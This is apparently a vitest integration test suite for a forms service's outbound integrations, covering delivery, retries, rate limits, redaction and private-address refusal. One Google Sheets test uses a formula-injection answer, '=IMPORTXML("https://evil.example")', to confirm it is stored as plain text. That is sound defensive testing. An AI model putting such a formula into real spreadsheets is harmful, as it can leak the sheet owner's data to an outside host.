/**
 * Integrations from the call that makes them to the service that gets the answers, by the doubles of the services: what
 * arrives, what counts as a failure, and that the rules are those of webhooks (§6.4).
 */
import { afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { createLog } from "../../../runtime/node/log.ts";
import { queueEmails } from "../../../runtime/postgres/messages/queue-emails.ts";
import { createPool } from "../../../runtime/postgres/pool.ts";
import type { ServiceAddresses } from "../../../workers/integrations/adapter.ts";
import { AIRTABLE_PATH, AIRTABLE_TOKEN, AirtableDouble } from "../../support/integrations/airtable.ts";
import { DISCORD_WEBHOOK_PATH, startDiscord } from "../../support/integrations/discord.ts";
import { signUp } from "../../support/integrations/events.ts";
import { CLIENT_EMAIL, GoogleDouble, REFRESH, SPREADSHEET } from "../../support/integrations/google.ts";
import { jsonIn, startDouble, type ServiceDouble } from "../../support/integrations/service-double.ts";
import { SLACK_CHANNEL, SLACK_TOKEN, SLACK_WEBHOOK_PATH, startSlack } from "../../support/integrations/slack.ts";
import { startTeams, TEAMS_PATH } from "../../support/integrations/teams.ts";
import { PATIENCE } from "../../support/patience.ts";
import { publishForm } from "../../support/programs/api-client.ts";
import { MailServer } from "../../support/services/mail-server.ts";
import { useWebhookBench, type Delivery } from "../support/webhook-bench.ts";

const MINUTE_MS = 60_000;
const FIELDS = ["Response ID", "Event", "Status", "Time", "Your name?", "Hello you, which colour?", "Guests"];

interface Integration {
  readonly id: string;
  readonly active: boolean;
  readonly offReason: string | null;
  readonly failureCount: number;
}

const bench = useWebhookBench();
let form: string;
let addresses: ServiceAddresses;
const doubles: { close(): Promise<void> }[] = [];

beforeAll(async () => {
  form = await publishForm(bench.client, signUp);
});

beforeEach(() => {
  // An adapter without a double would reach nothing.
  const nowhere = "http://127.0.0.1:9";
  addresses = { slackApi: nowhere, googleToken: nowhere, googleSheets: nowhere, airtable: nowhere };
});

afterEach(async () => {
  const { body } = await bench.client.get<{ data: readonly Integration[] }>(path());
  for (const { id } of body.data) await bench.client.request("DELETE", path(id));
  // Before the services that they hold connections to.
  await bench.stopAll();
  await Promise.all(doubles.splice(0).map((double) => double.close()));
});

const path = (...parts: readonly string[]): string => [`/v1/forms/${form}/integrations`, ...parts].join("/");

async function opened<Double extends { close(): Promise<void> }>(double: Promise<Double>): Promise<Double> {
  doubles.push(await double);
  return double;
}

async function google(): Promise<GoogleDouble> {
  const double = await GoogleDouble.start(() => bench.clock.now());
  doubles.push(double.double);
  const { origin } = double.double;
  addresses = { ...addresses, googleToken: `${origin}/token`, googleSheets: `${origin}/v4/spreadsheets` };
  return double;
}

async function airtable(fields: readonly string[] = FIELDS): Promise<AirtableDouble> {
  const double = await AirtableDouble.start(fields);
  doubles.push(double.double);
  addresses = { ...addresses, airtable: `${double.double.origin}/v0` };
  return double;
}

const workers = (changes = {}) => bench.workers({ serviceAddresses: addresses, ...changes });

async function make(type: string, config: object, more: object = {}): Promise<Integration> {
  const { status, body } = await bench.client.post<Integration>(path(), { type, config, ...more });
  if (status !== 201) throw new Error(`making ${type} answered ${status}: ${JSON.stringify(body)}`);
  return body;
}

async function integration({ id }: Integration): Promise<Integration> {
  const { body } = await bench.client.get<{ data: readonly Integration[] }>(path());
  return body.data.find((one) => one.id === id) as Integration;
}

async function complete(answers: object = { name: "Ada", colour: "red", guests: 2 }): Promise<string> {
  const { status, body } = await bench.client.post<{ id: string }>(`/v1/forms/${form}/responses`, {
    answers,
    complete: true,
    mode: "free",
  });
  expect(status).toBe(201);
  return body.id;
}

async function deliveries({ id }: Integration): Promise<readonly Delivery[]> {
  return (await bench.client.get<{ data: readonly Delivery[] }>(path(id, "deliveries"))).body.data;
}

/** The only delivery, once it has had so many attempts. */
async function attempted(made: Integration, times: number): Promise<Delivery> {
  return vi.waitFor(async () => {
    const [delivery, ...others] = await deliveries(made);
    expect(others).toEqual([]);
    expect(delivery?.attempts).toHaveLength(times);
    return delivery as Delivery;
  }, PATIENCE);
}

const passUntilDue = ({ nextAttemptAt }: Delivery): void =>
  bench.clock.forward(Math.max(0, (nextAttemptAt ?? 0) - bench.clock.now()));

describe("a completed response reaches", () => {
  test("Slack, through an incoming webhook", async () => {
    const slack = await opened(startSlack());
    await workers();
    const made = await make("slack", { webhookUrl: slack.origin + SLACK_WEBHOOK_PATH });
    await complete();
    expect(await attempted(made, 1)).toMatchObject({
      status: "success",
      attempts: [{ statusCode: 200, response: "ok" }],
    });
    expect(slack.requests[0]?.body).toContain("*Hello Ada, which colour?*\\nRed &amp; warm");
  });

  test("Slack, by a bot's token; an answer 200 with ok: false is a failure", async () => {
    const slack = await opened(startSlack());
    addresses = { ...addresses, slackApi: `${slack.origin}/api` };
    await workers();
    const made = await make("slack", { token: SLACK_TOKEN, channel: "C-elsewhere" });
    await complete();
    const failed = await attempted(made, 1);
    expect(failed).toMatchObject({
      status: "pending",
      attempts: [{ statusCode: 200, error: "Slack refused the message: channel_not_found" }],
    });
    expect((await integration(made)).failureCount).toBe(1);
    // The next attempt has the new config, and the token that was not given again.
    const changed = await bench.client.request("PATCH", path(made.id), { config: { channel: SLACK_CHANNEL } });
    expect(changed).toMatchObject({ status: 200, body: { failureCount: 0, config: { channel: SLACK_CHANNEL } } });
    passUntilDue(failed);
    expect(await attempted(made, 2)).toMatchObject({ status: "success" });
  });

  test("Discord and Teams", async () => {
    const discord = await opened(startDiscord());
    const teams = await opened(startTeams());
    await workers();
    const toDiscord = await make("discord", { webhookUrl: discord.origin + DISCORD_WEBHOOK_PATH });
    const toTeams = await make("teams", { webhookUrl: teams.origin + TEAMS_PATH });
    await complete();
    expect(await attempted(toDiscord, 1)).toMatchObject({ status: "success", attempts: [{ statusCode: 204 }] });
    expect(await attempted(toTeams, 1)).toMatchObject({ status: "success", attempts: [{ statusCode: 202 }] });
    expect(teams.requests[0]?.body).toContain("Red & warm");
  });

  test("every mailbox that its owner named", async () => {
    const mail = await opened(MailServer.start());
    await workers({ messages: { smtp: { url: mail.url, from: "Forms <forms@example.com>" } } });
    const made = await make("email", { to: ["ada@example.com", "grace@example.com"] });
    await complete();
    const delivery = await attempted(made, 1);
    expect(delivery).toMatchObject({ status: "success", attempts: [{ statusCode: null, error: null }] });
    await vi.waitFor(() => expect(mail.mails).toHaveLength(2), PATIENCE);
    expect(mail.mails.flatMap(({ to }) => to).toSorted()).toEqual(["ada@example.com", "grace@example.com"]);
    expect(mail.mails[0]?.headers.get("subject")).toBe("New response: Sign <up>");
    expect(mail.mails[0]?.text).toMatch(/Hello Ada, which colour\?\r?\n {2}Red & warm/);
    const again = await bench.client.post<{ deliveryId: string }>(path(made.id, "deliveries", delivery.id, "replay"));
    expect(again.status).toBe(200);
    expect(again.body.deliveryId).not.toBe(delivery.id);
    await vi.waitFor(() => expect(mail.mails).toHaveLength(4), PATIENCE);
  });

  test("Google Sheets, by a service account: a row below names of columns, which new questions extend", async () => {
    const sheets = await google();
    const { privateKey } = sheets;
    await workers();
    const own = { spreadsheetId: SPREADSHEET, sheet: "Responses" };
    const made = await make("google_sheets", { ...own, clientEmail: CLIENT_EMAIL, privateKey });
    // Their owner has a column of their own, and one of ours in another place.
    sheets.sheets.set("Responses", [["Notes", "Guests"]]);
    const response = await complete({ name: '=IMPORTXML("https://evil.example")', colour: "blue", guests: 2 });
    expect(await attempted(made, 1)).toMatchObject({ status: "success" });
    const time = expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string;
    expect(sheets.sheets.get("Responses")).toEqual([
      ["Notes", "Guests", "Response ID", "Event", "Status", "Time", "Your name?", "Hello you, which colour?"],
      // A text stays a text: a formula would be evaluated in the owner's account.
      ["", 2, response, "response.completed", "completed", time, '=IMPORTXML("https://evil.example")', "Blue"],
    ]);
    await complete();
    await vi.waitFor(() => expect(sheets.sheets.get("Responses")).toHaveLength(3), PATIENCE);
    // The token is used again, and the first row is not written again.
    expect(sheets.requests.filter((request) => request.startsWith("POST /token"))).toHaveLength(1);
    expect(sheets.requests.filter((request) => request.startsWith("PUT"))).toHaveLength(1);
  });

  test("Google Sheets, by a user's consent; a token that Google takes back is asked for again", async () => {
    const sheets = await google();
    await workers();
    const made = await make("google_sheets", { spreadsheetId: SPREADSHEET, sheet: "Responses", ...REFRESH });
    await complete();
    expect(await attempted(made, 1)).toMatchObject({ status: "success" });
    sheets.tokens.clear();
    await complete();
    const failed = await vi.waitFor(async () => {
      const [delivery] = await deliveries(made);
      expect(delivery?.attempts[0]?.statusCode).toBe(401);
      return delivery as Delivery;
    }, PATIENCE);
    passUntilDue(failed);
    await vi.waitFor(() => expect(sheets.sheets.get("Responses")).toHaveLength(3), PATIENCE);
  });

  test("Airtable, in one record, however many events it has", async () => {
    const table = await airtable();
    await workers();
    const config = { baseId: AIRTABLE_PATH.split("/")[2], table: "Sign ups", token: AIRTABLE_TOKEN };
    const made = await make("airtable", config, { events: ["response.completed", "response.answer_recorded"] });
    const response = await complete();
    await vi.waitFor(async () => {
      const all = await deliveries(made);
      expect(all.map(({ status }) => status)).toEqual(["success", "success", "success", "success"]);
    }, PATIENCE);
    expect(table.records).toHaveLength(1);
    expect(table.records[0]).toMatchObject({ "Response ID": response, "Your name?": "Ada", Guests: 2 });
  });

  test("any HTTP address, with the headers and the body that its owner wrote", async () => {
    const receiver = await opened(startDouble(() => ({ status: 200 })));
    await workers();
    const made = await make("http", {
      method: "PUT",
      url: `${receiver.origin}/crm?team=1`,
      headers: { Authorization: "Bearer of-the-crm" },
      body: { person: "{{answer:name}}", guests: "{{value:guests}}" },
    });
    await make("http", {
      url: `${receiver.origin}/form`,
      format: "form",
      body: { "who are you": "{{answer:name}} & co" },
    });
    await make("http", { url: `${receiver.origin}/text`, format: "text", body: "{{answers}}" });
    const standard = await make("http", { url: `${receiver.origin}/standard` });
    await complete({ name: 'A"da', colour: "red", guests: 2 });
    const { webhookId } = await attempted(made, 1);
    const { payload } = await attempted(standard, 1);
    await vi.waitFor(() => expect(receiver.requests).toHaveLength(4), PATIENCE);
    const asked = (wanted: string) => receiver.requests.find((request) => request.path === wanted);
    expect(asked("/crm")).toMatchObject({
      method: "PUT",
      body: JSON.stringify({ person: 'A"da', guests: 2 }),
      headers: { authorization: "Bearer of-the-crm", "webhook-id": webhookId },
    });
    expect(asked("/crm")?.query.get("team")).toBe("1");
    expect(asked("/form")?.body).toBe("who+are+you=A%22da+%26+co");
    expect(asked("/text")?.body).toBe('Your name?: A"da\nHello A"da, which colour?: Red & warm\nGuests: 2');
    expect(JSON.parse(asked("/standard")?.body ?? "")).toEqual(payload);
  });

  test("a REST hook, until the platform answers 410", async () => {
    const platform = await opened(startDouble(() => ({ status: 200 })));
    await workers();
    const made = await make("rest_hook", { targetUrl: `${platform.origin}/hooks/standard/1/abc` });
    const response = await complete();
    expect(await attempted(made, 1)).toMatchObject({ status: "success" });
    const [hook] = platform.requests.map((request) => jsonIn(request));
    expect(hook).toMatchObject({ response_id: response, answer_name: "Ada", payload: { event: "response.completed" } });
    platform.next = [{ status: 410 }];
    await complete();
    await vi.waitFor(async () => {
      expect(await integration(made)).toMatchObject({ active: false, offReason: "gone" });
    }, PATIENCE);
  });
});

describe("the rules of webhooks", () => {
  async function failing(answer: { status: number; headers?: Record<string, string> }): Promise<ServiceDouble> {
    return opened(startDouble(() => answer));
  }

  test("retry on the schedule, and twenty failures in a row switch the integration off", async () => {
    const service = await failing({ status: 500 });
    await workers();
    const made = await make("discord", { webhookUrl: `${service.origin}/hook` });
    await complete();
    const first = await attempted(made, 1);
    const waitMs = (first.nextAttemptAt ?? 0) - (first.attempts[0]?.at ?? 0);
    expect(waitMs).toBeGreaterThanOrEqual(0.9 * MINUTE_MS);
    await Promise.all(Array.from({ length: 19 }, () => complete()));
    await vi.waitFor(async () => {
      expect(await integration(made)).toMatchObject({ active: false, offReason: "failing", failureCount: 20 });
    }, PATIENCE);
    const all = await deliveries(made);
    expect(new Set(all.map(({ status }) => status))).toEqual(new Set(["failed"]));
    const again = (): Promise<{ readonly status: number; readonly body: unknown }> =>
      bench.client.post(path(made.id, "deliveries", first.id, "replay"));
    expect(await again()).toMatchObject({ status: 422, body: { error: { code: "validation_failed" } } });
    // While it is off nothing is kept for it; switched on, it begins anew.
    await complete();
    const { body } = await bench.client.request("PATCH", path(made.id), { active: true });
    expect(body).toMatchObject({ active: true, offReason: null, failureCount: 0 });
    expect(await deliveries(made)).toHaveLength(20);
    expect(await again()).toEqual(expect.objectContaining({ status: 200, body: { ok: true, deliveryId: first.id } }));
    await vi.waitFor(async () => {
      const replayed = (await deliveries(made)).find(({ id }) => id === first.id);
      expect(replayed?.attempts).toHaveLength(2);
    }, PATIENCE);
    const unknown = path(made.id, "deliveries", "dlv_01JD3W8K9QZ4T6V1X2Y3N5M7PC", "replay");
    expect((await bench.client.post(unknown)).status).toBe(404);
  });

  test("wait as long as the service asks, also for a fraction, and a limit without a time is no failure", async () => {
    const table = await airtable();
    const discord = await failing({ status: 429, headers: { "retry-after": "1.5" } });
    await workers();
    table.double.next = [{ status: 429, body: { errors: [{ error: "RATE_LIMIT_REACHED" }] } }];
    const config = { baseId: AIRTABLE_PATH.split("/")[2], table: "Sign ups", token: AIRTABLE_TOKEN };
    const toAirtable = await make("airtable", config);
    const toDiscord = await make("discord", { webhookUrl: `${discord.origin}/hook` });
    await complete();
    for (const [made, wantedMs] of [
      [toAirtable, 30_000],
      [toDiscord, 2_000],
    ] as const) {
      const { attempts, nextAttemptAt } = await attempted(made, 1);
      const waitMs = (nextAttemptAt ?? 0) - (attempts[0]?.at ?? 0);
      expect(waitMs).toBeGreaterThanOrEqual(wantedMs);
      expect(waitMs).toBeLessThan(wantedMs + MINUTE_MS / 2);
      expect(await integration(made)).toMatchObject({ failureCount: 0 });
    }
  });

  test("under a lowered plan deliver nothing and lose nothing that waits, webhooks go on, and a raised plan resumes", async () => {
    const service = await opened(startDouble(() => ({ status: 200 })));
    service.next = [{ status: 500 }];
    const receiver = await bench.receiver();
    const webhook = await bench.subscribe(receiver, ["response.completed"], form);
    await workers();
    const made = await make("http", { url: `${service.origin}/hook` });
    const setPlan = (plan: string) => bench.api.runtime.store.organizations.setPlan(bench.api.organization, plan);
    await complete();
    const waiting = await attempted(made, 1);
    await setPlan("free");
    try {
      expect(await integration(made)).toMatchObject({ active: true, locked: true });
      await complete();
      const haveSucceeded = (count: number) =>
        vi.waitFor(async () => {
          const statuses = (await bench.deliveries(webhook)).map(({ status }) => status);
          expect(statuses).toEqual(Array.from({ length: count }, () => "success"));
        }, PATIENCE);
      // Before the clock is put forward: an attempt that is under way would seem to have taken too long.
      await haveSucceeded(2);
      passUntilDue(waiting);
      await complete();
      // The webhook's delivery was claimed after the time at which the integration's was due.
      await haveSucceeded(3);
      expect(await attempted(made, 1)).toMatchObject({ status: "pending" });
      expect(service.requests).toHaveLength(1);
    } finally {
      await setPlan("self_hosted");
      await bench.client.request("DELETE", `/v1/webhooks/${webhook.id}`);
    }
    expect(await attempted(made, 2)).toMatchObject({ status: "success" });
    expect(await integration(made)).toMatchObject({ active: true, locked: false, failureCount: 0 });
    await complete();
    await vi.waitFor(() => expect(service.requests).toHaveLength(3), PATIENCE);
  });

  test("keep what failed explained: a field that the table lacks is named", async () => {
    await airtable(FIELDS.slice(0, 5));
    await workers();
    const config = { baseId: AIRTABLE_PATH.split("/")[2], table: "Sign ups", token: AIRTABLE_TOKEN };
    const made = await make("airtable", config);
    await complete();
    const { attempts } = await attempted(made, 1);
    expect(attempts[0]).toMatchObject({ statusCode: 422 });
    expect(attempts[0]?.response).toContain("Unknown field name");
  });

  test("send nothing of test data, and drop what waits for a deleted response", async () => {
    const service = await failing({ status: 500 });
    await workers();
    const made = await make("slack", { webhookUrl: `${service.origin}/hook` });
    const testClient = bench.api.client(await bench.api.key("sk_test"));
    const answers = { name: "Ada", colour: "red", guests: 2 };
    await testClient.post(`/v1/forms/${form}/responses`, { answers, complete: true, mode: "free" });
    const response = await complete();
    expect((await attempted(made, 1)).payload).toMatchObject({ submission: { id: response } });
    // Deliveries carry live answers.
    const seen = await testClient.get<{ data: readonly unknown[] }>(path(made.id, "deliveries"));
    expect(seen).toMatchObject({ status: 200, body: { data: [] } });
    expect((await bench.client.request("DELETE", `/v1/responses/${response}`)).status).toBe(200);
    await vi.waitFor(async () => expect(await deliveries(made)).toEqual([]), PATIENCE);
  });

  test("refuse private addresses when a delivery connects", async () => {
    const service = await failing({ status: 200 });
    await workers({ webhookAllowNets: [] });
    const made = await make("http", { url: `${service.origin}/inside` });
    await complete();
    expect((await attempted(made, 1)).attempts[0]).toMatchObject({
      statusCode: null,
      error: "webhooks may not reach 127.0.0.1",
    });
    expect(service.requests).toEqual([]);
  });
});

test("secrets are blotted out of what a service answers", async () => {
  const echo = await opened(startDouble(({ headers, path: asked }) => ({ status: 500, body: { headers, asked } })));
  await workers();
  const made = await make("http", {
    url: `${echo.origin}/hooks/a-secret-part?key=another-secret`,
    headers: { "x-api-key": "a-very-secret-key" },
  });
  await complete();
  await attempted(made, 1);
  const answers = [await bench.client.get(path(made.id, "deliveries")), await bench.client.get(path())];
  const said = JSON.stringify(answers.map(({ body }) => body));
  expect(said).toContain("•••");
  for (const secret of ["a-secret-part", "another-secret", "a-very-secret-key"]) expect(said).not.toContain(secret);
});

test("a repeated attempt queues no second e-mail, and a deleted response none", async () => {
  const { runtime, organization, databaseUrl } = bench.api;
  const response = await complete();
  const pool = createPool(databaseUrl, { max: 1, log: createLog("fatal"), applicationName: "test" });
  const queue = (about: { readonly response: string }): Promise<void> =>
    queueEmails(
      pool,
      { organization, about, key: "int_1/evt_1", to: ["ada@example.com"], content: { subject: "s", text: "t" }, at: 1 },
      runtime,
    );
  try {
    for (const id of [response, response, "res_01JD3W8K9QZ4T6V1X2Y3N5M7PC"]) await queue({ response: id });
    const queued = await runtime.store.messages.list({ organization, limit: 100 });
    expect(queued.filter(({ createdAt }) => createdAt === 1)).toHaveLength(1);
  } finally {
    await pool.end();
  }
});

describe("a test send", () => {
  test("shows the form's own questions with made-up answers, and tells the outcome at once", async () => {
    const slack = await opened(startSlack());
    await workers();
    const made = await make("slack", { webhookUrl: slack.origin + SLACK_WEBHOOK_PATH }, { active: false });
    const { status, body } = await bench.client.post<{ deliveryId: string }>(path(made.id, "test"));
    expect(status).toBe(200);
    expect(body).toEqual({ ok: true, status: 200, deliveryId: body.deliveryId });
    expect(slack.requests[0]?.body).toContain("Test: Sign");
    expect(slack.requests[0]?.body).toContain("*Your name?*");
    expect(slack.requests[0]?.body).toContain("Red &amp; warm");
    expect(slack.requests[0]?.body).toContain("This is a test");
    // A test key may look at it: it carries no live data.
    const seen = await bench.api.client(await bench.api.key("sk_test")).get(path(made.id, "deliveries"));
    expect(seen.body).toMatchObject({ data: [{ id: body.deliveryId, test: true, event: "test", status: "success" }] });
  });

  test("is the only one of its integration", async () => {
    const made = await make("slack", { webhookUrl: "http://127.0.0.1:2/hook" });
    const first = bench.client.post(path(made.id, "test"));
    await vi.waitFor(async () => expect(await deliveries(made)).toHaveLength(1), PATIENCE);
    const second = await bench.client.post(path(made.id, "test"));
    expect(second).toMatchObject({ status: 429, body: { error: { code: "rate_limited" } } });
    // Workers start only now: the first call waits for them.
    await workers();
    expect((await first).body).toMatchObject({ ok: false, status: null });
    expect((await bench.client.post(path(made.id, "test"))).status).toBe(200);
  });

  test("that fails says why, and neither counts nor is tried again", async () => {
    const sheets = await google();
    await workers();
    const { privateKey } = sheets;
    const own = { spreadsheetId: SPREADSHEET, sheet: "Gone" };
    const made = await make("google_sheets", { ...own, clientEmail: CLIENT_EMAIL, privateKey });
    expect((await bench.client.post(path(made.id, "test"))).body).toMatchObject({
      ok: false,
      status: 400,
      error: "Google refused the row: Unable to parse range: 'Gone'!1:1",
    });
    await bench.client.request("PATCH", path(made.id), { config: { clientEmail: "other@example.com" } });
    expect((await bench.client.post(path(made.id, "test"))).body).toMatchObject({
      ok: false,
      status: 400,
      error: "Google refused the credentials: invalid_grant: Invalid issuer.",
    });
    bench.clock.forward(10 * MINUTE_MS);
    expect(await integration(made)).toMatchObject({ active: true, failureCount: 0 });
    expect((await deliveries(made)).map(({ attempts }) => attempts.length)).toEqual([1, 1]);
    // No token that Google gave is kept.
    expect(JSON.stringify(await deliveries(made))).not.toContain("ya29");
  });
});
